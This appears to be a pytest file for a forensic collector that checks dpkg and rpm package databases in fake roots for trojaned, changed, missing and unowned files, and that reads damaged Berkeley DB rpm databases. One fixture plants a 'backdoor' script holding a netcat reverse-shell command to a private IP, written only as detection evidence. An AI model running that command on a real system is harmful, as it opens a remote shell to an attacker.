"""Package integrity read from the package databases of a fake root: a trojaned binary against dpkg's
md5sums, a changed configuration file told apart, a missing file, an rpm sqlite database decoded here, the
Berkeley DB rpm database (hash and btree, written by db5.3_load; truncated, damaged, not a database),
and an executable in PATH that no package owns."""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import sqlite3
import struct
import subprocess

import pytest

from analysis.checks import linux_packages
from collectors.artifacts import _rpmdb
from collectors.artifacts.package_integrity import (
    IntegritySummary,
    PackageFileCheck,
    PackageIntegrity,
    UnownedExecutable,
    parse_rpm_header,
)
from collectors.messages import translate

from .conftest import write

GOOD = b"\x7fELF original coreutils ls\n"
EVIL = b"\x7fELF trojaned ls that hides files\n"


def md5(b: bytes) -> str:
    return hashlib.md5(b).hexdigest()


def dpkg_root(root):
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "usr/bin").mkdir(parents=True)
    (root / "etc/ssh").mkdir(parents=True)
    (root / "usr/bin/ls").write_bytes(EVIL)
    (root / "usr/bin/cat").write_bytes(b"cat binary")
    (root / "usr/bin/backdoor").write_bytes(b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n")
    for n in ("ls", "cat", "backdoor"):
        os.chmod(root / "usr/bin" / n, 0o755)
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\n")
    (info / "coreutils.md5sums").write_text(
        f"{md5(GOOD)}  usr/bin/ls\n{md5(b'cat binary')}  usr/bin/cat\n{md5(b'gone')}  usr/bin/gone\n")
    (info / "coreutils.list").write_text("/usr\n/usr/bin\n/usr/bin/ls\n/usr/bin/cat\n/usr/bin/gone\n")
    (info / "openssh-server.list").write_text("/etc/ssh/sshd_config\n")
    (root / "var/lib/dpkg/status").write_text(
        "Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\n\n"
        "Package: openssh-server\nStatus: install ok installed\nConffiles:\n"
        f" /etc/ssh/sshd_config {md5(b'PermitRootLogin no' + bytes([10]))}\n /etc/ssh/moduli obsolete\n"
        "Version: 1:9.2p1-2\n")


def test_dpkg_trojan_config_missing_unowned(tmp_path, run):
    root = tmp_path / "root"
    dpkg_root(root)
    ran = run(PackageIntegrity(), root=root)
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    ls = rows["/usr/bin/ls"]
    assert (ls.status, ls.config, ls.package, ls.expected, ls.actual) == (
        "changed", False, "coreutils", md5(GOOD), md5(EVIL))
    assert ls.sha256 == hashlib.sha256(EVIL).hexdigest()
    assert rows["/etc/ssh/sshd_config"].status == "changed" and rows["/etc/ssh/sshd_config"].config is True
    assert rows["/usr/bin/gone"].status == "missing"
    assert "/usr/bin/cat" not in rows  # matches its digest
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert (summary.files_checked, summary.matched, summary.changed, summary.config_changed, summary.missing) == \
        (4, 1, 1, 1, 1)
    unowned = {u.path: u for u in ran.rows("unowned_executables.json", UnownedExecutable)}
    assert set(unowned) == {"/usr/bin/backdoor"}
    assert unowned["/usr/bin/backdoor"].sha256 == hashlib.sha256(
        b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n").hexdigest()


def rpm_header(tags: dict[int, tuple[int, object]]) -> bytes:
    """An rpm header blob as rpmdb.sqlite stores it (tag -> (type, value))."""
    index, data = [], b""
    for tag, (typ, val) in sorted(tags.items()):
        if typ == 4:
            while len(data) % 4:
                data += b"\0"
        off = len(data)
        if typ == 6:
            data += val.encode() + b"\0"
            cnt = 1
        elif typ == 8:
            data += b"".join(v.encode() + b"\0" for v in val)
            cnt = len(val)
        else:
            data += struct.pack(f">{len(val)}I", *val)
            cnt = len(val)
        index.append(struct.pack(">IIiI", tag, typ, off, cnt))
    return struct.pack(">II", len(index), len(data)) + b"".join(index) + data


def test_rpm_sqlite_database(tmp_path, run):
    root = tmp_path / "root"
    (root / "usr/bin").mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "var/lib/rpm").mkdir(parents=True)
    (root / "usr/bin/sshd").write_bytes(b"patched sshd with a master password")
    (root / "etc/sshd_config").write_text("changed\n")
    sha = lambda b: hashlib.sha256(b).hexdigest()  # noqa: E731
    blob = rpm_header({1000: (6, "openssh-server"), 1116: (4, [0, 1]), 1117: (8, ["sshd", "sshd_config"]),
                       1118: (8, ["/usr/bin/", "/etc/"]), 1035: (8, [sha(b"real sshd"), sha(b"orig\n")]),
                       1037: (4, [0, 1]), 5011: (4, [8])})
    assert parse_rpm_header(blob)[1117] == ["sshd", "sshd_config"]
    con = sqlite3.connect(root / "var/lib/rpm/rpmdb.sqlite")
    con.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    con.execute("INSERT INTO Packages (blob) VALUES (?)", (blob,))
    con.commit()
    con.close()
    before = sorted(os.listdir(root / "var/lib/rpm"))
    ran = run(PackageIntegrity(), root=root)
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    assert rows["/usr/bin/sshd"].status == "changed" and rows["/usr/bin/sshd"].algorithm == "sha256"
    assert rows["/usr/bin/sshd"].actual == sha(b"patched sshd with a master password")
    assert rows["/etc/sshd_config"].config is True
    assert sorted(os.listdir(root / "var/lib/rpm")) == before  # no -wal/-shm written beside the evidence


def test_diversions_merged_usr_takeover_obsolete_and_scope(tmp_path, run):
    """The false alarms of a real Debian: a diverted file (pg_config), /bin/x and /usr/bin/x named by two
    packages through the /bin -> usr/bin link, an md5sums entry of a file another package took over, an
    obsolete conffile, and an npm self-update under /usr/lib/node_modules (out of the default scope)."""
    root = tmp_path / "root"
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "usr/bin").mkdir(parents=True)
    (root / "usr/lib/node_modules/npm/lib").mkdir(parents=True)
    (root / "usr/lib/x86_64-linux-gnu").mkdir(parents=True)
    os.symlink("usr/bin", root / "bin")
    os.symlink("usr/lib", root / "lib")
    libpq_cfg, common_cfg = b"#!/bin/sh\necho libpq pg_config\n", b"#!/usr/bin/perl\n# wrapper\n"
    (root / "usr/bin/pg_config").write_bytes(common_cfg)
    (root / "usr/bin/pg_config.libpq-dev").write_bytes(libpq_cfg)
    (root / "usr/bin/kmod").write_bytes(b"kmod new")
    (root / "usr/bin/ls").write_bytes(GOOD)
    (root / "usr/lib/x86_64-linux-gnu/libz.so.1").write_bytes(b"zlib new")
    (root / "usr/lib/node_modules/npm/lib/cli.js").write_text("// npm 11, installed by npm itself\n")
    for n in ("pg_config", "pg_config.libpq-dev", "kmod", "ls"):
        os.chmod(root / "usr/bin" / n, 0o755)
    (root / "var/lib/dpkg/diversions").write_text(
        "/usr/bin/pg_config\n/usr/bin/pg_config.libpq-dev\npostgresql-common\n")
    (info / "libpq-dev.md5sums").write_text(f"{md5(libpq_cfg)}  usr/bin/pg_config\n")
    (info / "libpq-dev.list").write_text("/usr/bin/pg_config\n")
    (info / "postgresql-common.md5sums").write_text(f"{md5(common_cfg)}  usr/bin/pg_config\n")
    (info / "postgresql-common.list").write_text("/usr/bin/pg_config\n")
    # kmod moved from /bin to /usr/bin between package versions: both names, one file, two digests
    (info / "kmod.md5sums").write_text(f"{md5(b'kmod old')}  bin/kmod\n{md5(b'kmod new')}  usr/bin/kmod\n")
    (info / "kmod.list").write_text("/bin/kmod\n/usr/bin/kmod\n")
    (info / "coreutils.md5sums").write_text(f"{md5(GOOD)}  bin/ls\n")
    (info / "coreutils.list").write_text("/bin/ls\n")
    # zlib1g's library was taken over by libz-ng (zlib1g.list no longer names it); its md5sums still does
    (info / "zlib1g.md5sums").write_text(f"{md5(b'zlib old')}  lib/x86_64-linux-gnu/libz.so.1\n")
    (info / "zlib1g.list").write_text("/lib/x86_64-linux-gnu\n")
    (info / "libz-ng.md5sums").write_text(f"{md5(b'zlib new')}  usr/lib/x86_64-linux-gnu/libz.so.1\n")
    (info / "libz-ng.list").write_text("/usr/lib/x86_64-linux-gnu/libz.so.1\n")
    (info / "nodejs.md5sums").write_text(f"{md5(b'// npm 10')}  usr/lib/node_modules/npm/lib/cli.js\n")
    (info / "nodejs.list").write_text("/usr/lib/node_modules/npm/lib/cli.js\n")
    (root / "var/lib/dpkg/status").write_text(
        "Package: procps\nStatus: install ok installed\nConffiles:\n"
        f" /etc/init.d/procps {md5(b'x')} obsolete\n /etc/dpkg/dpkg.cfg.d/hook newconffile remove-on-upgrade\n"
        "Version: 2:4.0.2-3\n")
    ran = run(PackageIntegrity(), root=root)
    assert ran.rows("package_files.json", PackageFileCheck) == []
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert (summary.scope, summary.diverted, summary.superseded, summary.obsolete_conffiles) == \
        ("binaries", 1, 1, 2)
    assert (summary.files_checked, summary.matched, summary.out_of_scope, summary.shared) == (5, 5, 1, 1)
    assert any("package_scope=all" in n for n in ran.notes)
    assert {u.path for u in ran.rows("unowned_executables.json", UnownedExecutable)} == set()

    ran = run(PackageIntegrity(), root=root, options={"package_scope": "all"})
    (npm,) = ran.rows("package_files.json", PackageFileCheck)
    assert (npm.path, npm.status, npm.kind, npm.package) == (
        "/usr/lib/node_modules/npm/lib/cli.js", "changed", "data", "nodejs")

    (root / "usr/bin/kmod").write_bytes(b"kmod trojan")
    ran = run(PackageIntegrity(), root=root)
    (kmod,) = ran.rows("package_files.json", PackageFileCheck)
    assert (kmod.checked_path, kmod.kind, kmod.status, kmod.owners) == ("/usr/bin/kmod", "program", "changed", [])
    assert kmod.path in ("/bin/kmod", "/usr/bin/kmod")
    assert kmod.extra["expected_any"] == sorted([md5(b"kmod old"), md5(b"kmod new")])


def test_file_kinds_and_old_records():
    """The kind of a package file decides the scope and the severity; a version 1 record (no kind) is
    read with the kind its path gives."""
    from collectors import records
    from collectors.artifacts.package_integrity import file_kind
    assert file_kind("/usr/bin/ls") == "program"
    assert file_kind("/usr/lib/x86_64-linux-gnu/libc.so.6") == "library"
    assert file_kind("/lib/modules/6.1.0-18-amd64/kernel/fs/ext4/ext4.ko.xz") == "library"
    assert file_kind("/usr/lib/x86_64-linux-gnu/security/pam_unix.so") == "library"
    assert file_kind("/usr/lib/python3/dist-packages/apt/cache.py") == "module"
    assert file_kind("/usr/lib/systemd/system/ssh.service") == "startup"
    assert file_kind("/etc/ssh/sshd_config", config=True) == "config"
    assert file_kind("/usr/lib/git-core/git-daemon", 0o100755) == "program"
    assert file_kind("/usr/lib/git-core/git-daemon", 0o100644) == "data"
    assert file_kind("/usr/share/doc/bash/README.gz") == "data"
    assert file_kind("/usr/lib/node_modules/npm/bin/npm-cli.js", 0o100755) == "data"
    assert file_kind("/usr/lib/google-cloud-sdk/lib/third_party/certifi/cacert.pem") == "data"
    old = {"schema": "package_file_check", "version": 1, "records": [
        {"path": "/usr/bin/ps", "package": "procps", "manager": "dpkg", "status": "changed", "expected": "a" * 32}]}
    (r,) = records.load(old, PackageFileCheck)
    assert (r.kind, r.checked_path, r.owners) == ("program", None, [])


# ------------------------------------------------------------------ the Berkeley DB rpm database
DB_LOAD = shutil.which("db5.3_load")
needs_db_load = pytest.mark.skipif(DB_LOAD is None, reason="db5.3_load (Debian package db5.3-util) is not "
                                   "installed: bash scripts/setup.sh --test installs it")


def bdb_packages(path, blobs: list[bytes], *, kind: str = "hash", page_size: int = 4096, chksum: bool = False):
    """A real Berkeley DB ``Packages`` file written by Debian's db5.3_load, as rpm keeps it: each header under
    its 4-byte header number (little-endian, an x86 host), and rpm's counter record under number 0."""
    lines = ["VERSION=3", "format=bytevalue", f"type={kind}", f"db_pagesize={page_size}"]
    lines += ["chksum=1"] if chksum else []
    lines += ["HEADER=END", " " + struct.pack("<I", 0).hex(), " " + struct.pack("<I", len(blobs) + 1).hex()]
    for i, blob in enumerate(blobs, 1):
        lines += [" " + struct.pack("<I", i).hex(), " " + blob.hex()]
    lines.append("DATA=END")
    path.parent.mkdir(parents=True, exist_ok=True)
    dump = path.with_name(path.name + ".dump")
    dump.write_text("\n".join(lines) + "\n")
    subprocess.run([DB_LOAD, "-f", str(dump), str(path)], check=True, capture_output=True)
    dump.unlink()
    return path


def rpm_packages(count: int = 40) -> tuple[list[bytes], dict[str, bytes]]:
    """`count` small package headers, and one with 2,000 files whose header spans overflow pages, with the
    contents their digests are of."""
    sha = lambda b: hashlib.sha256(b).hexdigest()  # noqa: E731
    blobs, contents = [], {}
    for i in range(count):
        data = f"tool {i}\n".encode()
        contents[f"/usr/bin/tool{i}"] = data
        blobs.append(rpm_header({1000: (6, f"pkg{i}"), 1116: (4, [0]), 1117: (8, [f"tool{i}"]),
                                 1118: (8, ["/usr/bin/"]), 1035: (8, [sha(data)]), 1037: (4, [0]), 5011: (4, [8])}))
    names = [f"lib{i:04d}.so" for i in range(2000)]
    for n in names:
        contents["/usr/lib64/" + n] = n.encode()
    blobs.append(rpm_header({1000: (6, "biglib"), 1116: (4, [0] * len(names)), 1117: (8, names),
                             1118: (8, ["/usr/lib64/"]), 1035: (8, [sha(n.encode()) for n in names]),
                             1037: (4, [0] * len(names)), 5011: (4, [8])}))
    return blobs, contents


def packages_in(path) -> tuple[set[str], list[str]]:
    problems: list[str] = []
    names = {parse_rpm_header(b)[1000] for b in _rpmdb.rpm_header_blobs(path, problems)}
    return names, problems


@needs_db_load
def test_rpm_berkeley_db_hash_database_read_without_rpm(tmp_path, run):
    root = tmp_path / "root"
    blobs, contents = rpm_packages()
    assert len(blobs[-1]) > 4096 * 10  # the big header lies on a chain of overflow pages
    for path, data in contents.items():
        write(root, path, data)
    write(root, "/usr/bin/tool7", b"tool 7 with a backdoor\n")  # trojaned
    (root / "usr/lib64/lib1234.so").unlink()  # missing
    db = bdb_packages(root / "var/lib/rpm/Packages", blobs)
    before = (sorted(os.listdir(db.parent)), hashlib.sha256(db.read_bytes()).hexdigest())
    ran = run(PackageIntegrity(), root=root, options={"package_scope": "all"})
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    assert set(rows) == {"/usr/bin/tool7", "/usr/lib64/lib1234.so"}
    assert (rows["/usr/bin/tool7"].status, rows["/usr/bin/tool7"].package, rows["/usr/bin/tool7"].manager) == (
        "changed", "pkg7", "rpm")
    assert rows["/usr/lib64/lib1234.so"].status == "missing" and rows["/usr/lib64/lib1234.so"].package == "biglib"
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert (summary.packages, summary.files_checked, summary.matched) == (41, 2040, 2038)
    assert not [n for n in ran.notes if "Packages" in n]
    assert (sorted(os.listdir(db.parent)), hashlib.sha256(db.read_bytes()).hexdigest()) == before
    # the case check for changed package files sees the trojan found through the Berkeley DB database
    changed = [f for f in linux_packages.run(ran.ctx.case, None) if f.rule == "ungcuu.linux.package_file_changed"]
    assert changed and all("/usr/bin/tool7" in json.dumps(f.details) for f in changed)


@needs_db_load
@pytest.mark.parametrize("kind,page_size,chksum", [("btree", 4096, False), ("hash", 512, True),
                                                   ("btree", 1024, True)])
def test_rpm_berkeley_db_btree_small_pages_and_checksums(tmp_path, kind, page_size, chksum):
    blobs, _ = rpm_packages(25)
    db = bdb_packages(tmp_path / "Packages", blobs, kind=kind, page_size=page_size, chksum=chksum)
    names, problems = packages_in(db)
    assert names == {f"pkg{i}" for i in range(25)} | {"biglib"} and problems == []


@needs_db_load
def test_rpm_berkeley_db_truncated_keeps_what_is_left_and_says_so(tmp_path, run):
    blobs, _ = rpm_packages(300)
    db = bdb_packages(tmp_path / "Packages", blobs, page_size=1024)
    whole = db.read_bytes()
    db.write_bytes(whole[: len(whole) // 2 + 100])  # half the pages, and part of one
    names, problems = packages_in(db)
    assert 0 < len(names) < 301
    assert any("truncated" in p for p in problems)
    # the collector: the packages left are checked, the truncation is in its notes (in Vietnamese too)
    root = tmp_path / "root"
    (root / "var/lib/rpm").mkdir(parents=True)
    shutil.copy(db, root / "var/lib/rpm/Packages")
    ran = run(PackageIntegrity(), root=root, options={"package_scope": "all"})
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert summary.packages == len(names) and summary.missing == summary.files_checked > 0
    note = next(n for n in ran.notes if "truncated" in n)
    assert note.startswith("/var/lib/rpm/Packages (Berkeley DB): the file holds ")
    assert "bị cắt cụt" in translate(note, "vi")


def test_rpm_berkeley_db_not_a_database_is_a_clear_note(tmp_path, run):
    root = tmp_path / "root"
    write(root, "/var/lib/rpm/Packages", os.urandom(8192))
    ran = run(PackageIntegrity(), root=root)
    assert [n for n in ran.notes if "Packages" in n] == [
        "/var/lib/rpm/Packages (Berkeley DB) not read: not a Berkeley DB hash or btree file (no magic number at "
        "byte 12): rpm files not checked"]
    assert not ran.named("package_files.json")
    with pytest.raises(_rpmdb.BdbError, match="too short"):
        list(_rpmdb.rpm_header_blobs(write(tmp_path, "/short", b"\0" * 40), []))


@needs_db_load
def test_rpm_berkeley_db_damaged_pages_and_chains(tmp_path):
    """A page whose number is wrong is skipped; an overflow chain cut by a page of another kind loses that
    one item; every other package is read and each damage is named."""
    blobs, _ = rpm_packages(30)
    db = bdb_packages(tmp_path / "Packages", blobs, page_size=1024)
    data = bytearray(db.read_bytes())
    pages = [data[i:i + 1024] for i in range(0, len(data), 1024)]
    hash_pages = [i for i, p in enumerate(pages) if i and p[25] in (2, 13) and struct.unpack_from("<H", p, 20)[0]]
    overflow = [i for i, p in enumerate(pages) if i and p[25] == 7]
    struct.pack_into("<I", data, hash_pages[0] * 1024 + 8, 99999)  # the page says it is another page
    data[overflow[len(overflow) // 2] * 1024 + 25] = 13  # the middle of the big header's chain is not overflow
    db.write_bytes(bytes(data))
    names, problems = packages_in(db)
    assert "biglib" not in names and len(names) >= 20
    assert any("says it is page 99999: skipped" in p for p in problems)
    assert any("is not an overflow page: not read" in p for p in problems)


@needs_db_load
def test_rpm_berkeley_db_many_damaged_pages_are_counted_not_listed(tmp_path):
    blobs, _ = rpm_packages(1500)
    db = bdb_packages(tmp_path / "Packages", blobs, page_size=4096)
    data = bytearray(db.read_bytes())
    leaves = [i for i in range(1, len(data) // 4096) if data[i * 4096 + 25] in (2, 13)
              and struct.unpack_from("<H", data, i * 4096 + 20)[0]]
    assert len(leaves) > _rpmdb.KEEP_PROBLEMS + 5
    for i in leaves:
        struct.pack_into("<I", data, i * 4096 + 8, 0xFFFF)  # every page holding records says it is another
    db.write_bytes(bytes(data))
    names, problems = packages_in(db)
    assert names == set()
    assert len(problems) == _rpmdb.KEEP_PROBLEMS + 1
    assert problems[-1] == f"{len(leaves) - _rpmdb.KEEP_PROBLEMS} more damaged places skipped"
    assert translate(f"/var/lib/rpm/Packages (Berkeley DB): {problems[-1]}", "vi").endswith(
        f"đã bỏ qua thêm {len(leaves) - _rpmdb.KEEP_PROBLEMS} chỗ hỏng")
